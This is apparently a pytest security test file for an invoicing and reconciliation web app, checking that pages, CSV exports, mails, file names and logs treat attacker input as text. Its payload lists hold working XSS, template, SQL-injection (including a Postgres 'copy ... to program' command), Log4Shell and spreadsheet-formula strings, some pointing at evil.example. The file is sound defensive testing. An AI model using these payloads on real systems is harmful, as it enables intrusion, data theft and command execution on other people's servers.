"""What somebody may try who means harm: words that are programs, hosts that are made up, logs."""

import csv
import json
import os
import pty
import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from urllib.parse import quote

import pytest

from reconciler.flows import keep_file
from reconciler.flows.send_mail import send_mail
from reconciler.services import attachments
from reconciler.web.admin import admin_blueprint
from reconciler.web.app import create_web_app
from tests.file_samples import pdf
from tests.mail_room import open_mail_room
from tests.tiers import size
from tests.web.screens import Screens, token_of
from tests.web.test_portal import link

ROOT = Path(__file__).parents[2]
# What runs somewhere if it is not taken for text: in a page, an attribute, a template, a sheet.
PROGRAMS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<b>x'>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><button>Pay", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<math><mtext></form><form><mglyph><style></math>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "--><script>alert(1)</script><!--",
    "' autofocus onfocus='alert(1)", '" onmouseover="alert(1)', "` onmouseover=`alert(1)",
    "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}", "{% import os %}{{ config }}",
    "]]><script>alert(1)</script>",
    "=HYPERLINK(\"//evil.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
FORMULAS = "=+-@\t\r"
_RUN = frozenset({"iframe", "object", "embed", "base", "applet", "frame", "math", "video", "style"})


class Page(HTMLParser):
    """What a browser would make of a page: its text, and whatever of it could run or fetch."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.fields: list[str] = []
        self.faults: list[str] = []
        self.further: list[str] = []  # addresses of the next page
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        given = {name: value or "" for name, value in attrs}
        self.fields += [given.get("value", "")]
        self.further += [given["href"]] if given.get("rel") == "next" else []
        if tag in _RUN or (tag == "script" and not given.get("src", "").startswith("/")):
            self.faults.append(f"<{tag}>")
        for name, value in given.items():
            if name.startswith("on") or name in {"srcdoc", "style"}:
                self.faults.append(f"{tag} {name}")
            where = "".join(value.split()).lower()
            if name in {"href", "src", "action", "data", "formaction"} and (
                where.startswith(("javascript:", "data:", "vbscript:", "//")) or "evil" in where
            ):
                self.faults.append(f"{tag} {name}={value}")

    def handle_data(self, data):
        self.texts.append(data)

    @property
    def words(self) -> str:
        return " ".join(" ".join([*self.texts, *self.fields]).split())


@pytest.fixture(scope="module")
def house(standing: Screens) -> Screens:
    """Books into which every one of these was written, wherever words can be written."""
    made = standing
    made.ids["some"] = made.customer(PROGRAMS[0], email="pay@acme.example")
    for n, program in enumerate(PROGRAMS):
        customer = made.customer(program, email="pay@acme.example")
        made.invoice(customer, 10_000 + n, f"INV-{n}", description=program)
    made.deposit(made.ids["some"], 5_000, "DEP-1", notes="\n".join(PROGRAMS)[:1_000])
    rae = made.as_("reconciler")
    for program in PROGRAMS:
        attach(made, f"{program}.pdf")
    carried = {f"key {n}": program for n, program in enumerate(PROGRAMS)}
    made.ids["paid"] = made.paid(
        900_000, metadata=carried | {"invoice": "INV-0"}, description=PROGRAMS[0]
    )
    made.ids["event"] = made.office.scalar(
        "select rail_event_id from inbox_event where type = 'charge.succeeded'"
    )
    for part in (PROGRAMS[:21], PROGRAMS[21:]):
        made.ids["refund"] = made.ask_refund(
            "reconciler", payment_id=made.ids["paid"], amount=100, note="\n".join(part)
        )
    assert rae.post(f"/notes/{made.ids['paid']}", {"note": "\n".join(PROGRAMS)[:1_000]})
    return made


def attach(made: Screens, name: str) -> None:
    """A file of this name on the deposit, as a browser that escapes nothing would send it."""
    with keep_file.kept(made.office.runtime, pdf()) as file:
        made.by(
            "reconciler",
            lambda work: attachments.keep_on_deposit(work, made.ids["DEP-1"], name, file),
        )


PAGES = (
    "/customers", "/invoices", "/deposits", "/deposits/DEP-1", "/payments", "/payments/{paid}",
    "/refunds?tab=me", "/refunds/{refund}", "/events/{event}", "/events?holds=script", "/unmatched",
    "/reminders", "/customers/{some}", "/customers/{some}/change", "/customers/{some}/statement",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/refunds/new?payment={paid}", "/audit",
)  # fmt: skip


@pytest.mark.parametrize("path", PAGES)
def test_no_page_runs_what_people_or_rails_wrote(house, path):
    answer = house.as_("admin").get(path.format(**house.ids))
    assert answer.status_code == 200
    assert Page(answer.get_data(as_text=True)).faults == []


def test_the_judge_of_these_pages_finds_what_would_run():
    runs = [program for program in PROGRAMS if Page(f"<p>{program}</p>").faults]
    assert len(runs) >= 25
    assert Page('<input value="" onfocus="alert(1)">').faults == ["input onfocus"]


def test_each_is_read_as_it_was_written(house):
    admin, shown = house.as_("admin"), ""
    for path in ("/customers", "/invoices", "/events/{event}", "/refunds?tab=me"):
        shown += Page(admin.get(path.format(**house.ids)).get_data(as_text=True)).words
    assert [program for program in PROGRAMS if " ".join(program.split()) not in shown] == []
    assert " 49 " not in shown


def test_each_name_stands_on_its_own_pages_as_it_was_written(house):
    admin = house.as_("admin")
    for n, program in enumerate(PROGRAMS):
        for path in (f"/invoices/INV-{n}", f"/invoices/INV-{n}/print"):
            page = Page(admin.get(path).get_data(as_text=True))
            assert page.faults == [], (path, program)
            assert " ".join(program.split()) in page.words, (path, program)


def test_what_a_rail_says_of_what_failed_is_text_too(screens):
    world, viewer = screens.office.world, screens.as_("viewer")
    screens.ids["paid"] = screens.paid(900_000)
    charge = next(iter(world.table("charge")))
    for program in PROGRAMS:
        world.advance_refund(world.refund(charge, 100), "failed", program)
    screens.paid(5_000)
    world.dispute(next(reversed(world.table("charge"))), reason=PROGRAMS[0])
    screens.hear("")
    screens.ids["dispute"] = screens.office.scalar("select id from dispute")
    words = ""
    paths = ["/questions", "/payments/{paid}", "/disputes/{dispute}", "/refunds?tab=trouble"]
    for path in paths:
        page = Page(viewer.get(path.format(**screens.ids)).get_data(as_text=True))
        assert page.faults == [], path
        words += page.words.lower()
        paths += [one.removeprefix("/admin") for one in page.further]
    # Of a reason that is no word of the rail's forty characters are shown.
    assert [one for one in PROGRAMS if " ".join(one[:40].lower().split()) not in words] == []
    told = viewer.get("/questions?as=csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(StringIO(told)) for cell in row]
    assert [cell for cell in cells if cell[:1] in FORMULAS and cell] == []


def test_the_client_reads_them_as_text_too(house):
    for n in (0, 7, 36):
        customer = house.office.scalar(
            "select customer_id from invoice where number = :n", n=f"INV-{n}"
        )
        path = link(house, customer)
        for place in ("", f"/invoices/{house.ids[f'INV-{n}']}", "/statement"):
            page = Page(house.browser().get(path + place).get_data(as_text=True))
            assert page.faults == [], place


def test_no_sheet_takes_them_for_formulas(house):
    admin = house.as_("admin")
    for path in ("/customers", "/invoices", "/refunds?tab=me", "/payments"):
        mark = "&" if "?" in path else "?"
        text = admin.get(f"{path}{mark}as=csv").get_data(as_text=True)
        cells = [cell for row in csv.reader(StringIO(text)) for cell in row]
        assert len(cells) > 20, path
        numbers = [cell for cell in cells if cell.lstrip("-").replace(".", "").isdigit()]
        begin = [cell for cell in cells if cell[:1] in FORMULAS and cell and cell not in numbers]
        assert begin == [], path
    names = admin.get("/customers?as=csv").get_data(as_text=True)
    assert "'=HYPERLINK" in names


def test_no_mail_runs_them_and_none_gets_another_line_into_its_head(house, tmp_path):
    rae, room = house.as_("reconciler"), open_mail_room(house.office, tmp_path)
    for n in range(1, len(PROGRAMS)):  # the first is paid: a mail about it would leave no more
        assert rae.post(f"/invoices/INV-{n}/mail").status_code == 303
    for _ in range(5):
        send_mail(room.runtime)
    mails = room.letters()
    assert len(mails) == len(PROGRAMS) - 1
    for mail in mails:
        (html,) = [part for part in mail.walk() if part.get_content_type() == "text/html"]
        # A mail has no stylesheet, so its own elements are styled in place.
        found = [one for one in Page(html.get_content()).faults if not one.endswith(" style")]
        assert found == []
        assert [name for name, value in mail.items() if {"\r", "\n"} & set(value)] == []


def test_a_file_is_kept_under_a_name_that_no_folder_and_no_page_takes_for_more(house):
    names = [row.name for row in house.office.rows("select file_name as name from attachment")]
    assert len(names) == len(PROGRAMS)
    assert [name for name in names if set(name) & set('/\\<>:"|?*') or not name.isprintable()] == []


HOSTS = (
    {"Host": "made-up.test"},
    {"Host": "made-up.test:443"},
    {"Host": "127.0.0.1:8000@made-up.test"},
    {"X-Forwarded-Host": "made-up.test"},
    {"X-Forwarded-Host": "made-up.test, 127.0.0.1"},
    {"X-Forwarded-Server": "made-up.test"},
    {"X-Host": "made-up.test"},
    {"X-Original-URL": "//made-up.test/admin"},
    {"X-Rewrite-URL": "//made-up.test/admin"},
    {"Forwarded": "host=made-up.test;proto=https;for=1.2.3.4"},
    {"X-Forwarded-Proto": "ftp", "X-Forwarded-Port": "99999", "X-Forwarded-Host": "made-up.test"},
    {"Referer": "https://made-up.test/"},
)


@pytest.mark.parametrize("headers", HOSTS, ids=str)
def test_a_host_that_is_made_up_is_in_no_answer(house, headers):
    client, token = house.browser(), link(house, house.ids["some"])
    rae = house.as_("reconciler").client
    of_nobody = (
        "/",
        "/admin/",
        "/admin/sign-in",
        "/admin/sign-in?next=/x",
        "/healthz",
        "/no",
        token,
        f"{token}/statement",
        "/portal/none",
        "/api/v1/openapi.json",
        "/api/v1/customers",
    )
    of_rae = ("/admin/", "/admin/customers", "/admin/no", "/admin/portal-links",
              f"/admin/invoices/{house.ids['INV-3']}")  # fmt: skip
    for caller, paths in ((client, of_nobody), (rae, of_rae)):
        for path in paths:
            answer = caller.get(path, headers=headers)
            assert answer.status_code < 500, path
            assert "made-up.test" not in str(answer.headers) + answer.get_data(as_text=True), path


def test_where_somebody_says_they_come_from_is_not_what_guesses_are_counted_by(house):
    client = house.browser()
    page = client.get("/admin/sign-in")
    before = house.office.scalar("select count(*) from sign_in_attempt where who like 'address/%'")
    form = {"email": "x@example.com", "password": "no", "form_token": token_of(page)}
    client.post("/admin/sign-in", data=form, headers={"X-Forwarded-For": "9.9.9.9"})
    counted = house.office.rows("select who from sign_in_attempt where who like 'address/%'")
    assert len(counted) == before + 1
    assert all("9.9.9.9" not in row.who for row in counted)


QUERIES = (
    "' or '1'='1", "' or 1=1 --", '" or ""="', "1; drop table payment; --",
    "1' union select null--",
    "') or ('1'='1", "admin'--", "1 and sleep(5)", "'||pg_sleep(5)||'", "1) or (1=1", "%' --",
    "\\'",
    "'; copy payment to program 'id'; --", "${jndi:ldap://evil}", "*)(uid=*", "$.a ? (@ > 1)",
    '{"a": {"$gt": ""}}', "case when 1=1 then id else amount end", "id desc, (select 1)", "%00'",
    "0x27206f7220313d31", "1e400", "-1", "99999999999999999999", "\u2019 or 1=1", "NaN",
)  # fmt: skip
ASKED = (
    "/search?q={}", "/events?holds={}", "/events?type={}", "/events?status={}", "/events?q={}",
    "/invoices?view={}", "/invoices?q={}", "/payments?status={}", "/customers?before={}",
    "/payments?before={}", "/ledger/entries?role={}&currency={}", "/ledger/trial-balance?as_of={}",
    "/unmatched?view={}", "/unmatched/{}", "/refunds?tab={}", "/audit?action={}", "/audit?who={}",
    "/questions?kind={}&subject={}", "/figures?currency={}", "/customers/{}", "/invoices?as={}",
)  # fmt: skip


@pytest.mark.sampled(2)
@pytest.mark.parametrize("asked", ASKED)
def test_a_question_is_never_a_statement(house, asked):
    before, admin = house.books(), house.as_("admin")
    every = size(quick=4, full=1)  # in ./test other ones for each page, in turn
    for query in QUERIES[ASKED.index(asked) % every :: every]:
        answer = admin.get(asked.replace("{}", quote(query, safe="")))
        assert answer.status_code in {200, 303, 404, 422}, query
        said_so = answer.get_data(as_text=True)
        assert "psycopg" not in said_so, query
        assert "syntax error" not in said_so, query
    assert house.books() == before


_LOGGING = """
import logging, structlog
from reconciler.logs import set_up_logs
set_up_logs()
evil = chr(10) + '{"event": "refund.sent"}' + chr(13) + chr(27) + '[2J' + chr(0x9b) + chr(0x2028)
log = structlog.get_logger()
log.warning('event.kept', id='evt_1' + evil)
logging.getLogger('granian').warning('GET /%s', evil)
try:
    raise KeyError(evil + 'ann@example.com')
except KeyError:
    log.exception('screen.broken', path='/admin/' + evil)
"""


def logged(*, on_a_terminal: bool) -> list[str]:
    """The lines that come of events with line ends and colours in them."""
    ours, theirs = pty.openpty() if on_a_terminal else os.pipe()
    command = [sys.executable, "-c", _LOGGING]
    subprocess.run(command, stderr=theirs, check=True, timeout=30, cwd=ROOT)  # noqa: S603  our own
    os.close(theirs)
    told = b""
    while chunk := _read(ours):
        told += chunk
    os.close(ours)
    return told.decode().replace("\r\n", "\n").strip("\n").split("\n")


def _read(end: int) -> bytes:
    try:
        return os.read(end, 1 << 16)
    except OSError:  # a terminal that nobody writes to any more
        return b""


def test_what_is_logged_is_one_line_each_whatever_is_in_it():
    lines = logged(on_a_terminal=False)
    assert len(lines) == 3
    assert all(line.isprintable() for line in lines)
    first, last = json.loads(lines[0]), json.loads(lines[2])
    assert (first["event"], last["event"]) == ("event.kept", "screen.broken")
    assert first["id"].startswith("evt_1\\n")
    assert last["error"] == "KeyError"
    assert last["raised_at"][-1].endswith("<module>")
    assert "ann@example.com" not in lines[2]


def test_a_terminal_is_neither_cleared_nor_told_another_line():
    lines = logged(on_a_terminal=True)
    assert len(lines) == 3
    assert not any("\x1b[2J" in line or "\x9b" in line for line in lines)


@pytest.mark.parametrize("path", ["/", "/admin/", "/admin/none", "/portal/none", "/api/v1/none",
                                  "/healthz", "/none"])  # fmt: skip
def test_over_https_every_answer_says_come_no_other_way_for_a_year(house, path):
    for base_url, said in (("https://books.example.com", "max-age=31536000"), (None, None)):
        runtime = house.office.runtime
        if base_url:
            settings = replace(runtime.settings, base_url=base_url)
            runtime = replace(runtime, settings=settings)
        app = create_web_app(runtime, more=[admin_blueprint(runtime)])
        assert app.test_client().get(path).headers.get("Strict-Transport-Security") == said
